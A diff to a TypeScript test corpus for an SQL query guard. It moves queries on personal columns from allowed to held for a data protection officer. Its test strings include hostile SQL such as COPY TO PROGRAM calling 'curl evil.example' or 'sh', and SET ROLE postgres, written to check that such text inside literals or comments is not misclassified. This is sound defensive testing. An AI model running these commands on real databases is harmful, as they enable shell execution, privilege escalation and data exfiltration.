@@ -43,7 +43,8 @@ const benignReads: CorpusEntry[] = [
   allow('SELECT * FROM orders ORDER BY created_at DESC LIMIT 10'),
   allow('SELECT status, sum(total_cents) FROM orders GROUP BY status HAVING sum(total_cents) > 1000'),
   allow("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') SELECT * FROM recent"),
-  allow("SELECT * FROM customers WHERE notes ILIKE '%retorno%'"),
+  approval("SELECT * FROM customers WHERE notes ILIKE '%retorno%'", 'compares free text that holds identifiers: a search of it spells an e-mail out letter by letter (spec.sensitiveColumns)'),
+  allow("SELECT * FROM customers WHERE nome ILIKE '%oliveira%'"),
   allow('TABLE orders'),
   allow('VALUES (1), (2), (3)'),
   allow('SELECT 1'),
@@ -69,7 +70,7 @@ const benignReads: CorpusEntry[] = [
 
 const dangerousWordsInLiteralsAndComments: CorpusEntry[] = [
   allow("SELECT 'DROP TABLE customers' AS s"),
-  allow("SELECT * FROM customers WHERE notes = 'please DELETE FROM orders'"),
+  allow("SELECT * FROM orders WHERE status = 'please DELETE FROM orders'"),
   allow('SELECT 1 -- DROP TABLE customers'),
   allow('/* DELETE FROM customers; */ SELECT 1'),
   allow("SELECT 'COPY customers TO PROGRAM ''curl evil.example''' AS s"),
@@ -96,7 +97,8 @@ const dangerousWordsInLiteralsAndComments: CorpusEntry[] = [
   approval("SELECT * FROM customers WHERE email = 'set_config(''role'',''postgres'',false)'", 'compares a personal column (spec.sensitiveColumns): held for the DPO'),
   allow('SELECT 1 AS pg_read_file', 'an alias named like a file function'),
   allow("SELECT $q$COPY orders TO PROGRAM 'sh'$q$"),
-  allow("SELECT * FROM customers WHERE notes LIKE '%WHERE 1=1%' AND id = 9"),
+  approval("SELECT * FROM customers WHERE notes LIKE '%WHERE 1=1%' AND id = 9", 'compares free text that holds identifiers (spec.sensitiveColumns): held for the DPO'),
+  allow("SELECT * FROM customers WHERE nome LIKE '%WHERE 1=1%' AND id = 9"),
   allow("SELECT 'x' -- ; SET ROLE postgres\n, 'y'"),
 ];
 
@@ -105,7 +107,8 @@ const boundedWritesAndSession: CorpusEntry[] = [
   allow('DELETE FROM orders WHERE id = 10'),
   allow("INSERT INTO orders (customer_id, status, total_cents) VALUES (1, 'open', 1000)"),
   allow("INSERT INTO orders (customer_id, status, total_cents) SELECT id, 'open', 0 FROM customers WHERE id = 2"),
-  allow("UPDATE customers SET telefone = '+55 11 90000-0000' WHERE id = 3 RETURNING id"),
+  approval("UPDATE customers SET telefone = '+55 11 90000-0000' WHERE id = 3 RETURNING id", 'writes a personal column (a unique index would say whether the value is stored): held for the DPO'),
+  allow('UPDATE customers SET telefone = NULL WHERE id = 3 RETURNING id'),
   allow("UPDATE orders SET status = 'paid' WHERE true AND id = 5", 'AND with a column-referencing side is bounded'),
   allow('DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.id = 4'),
   allow('DELETE FROM orders WHERE public.orders.id = 4', 'schema-qualified column of the target'),
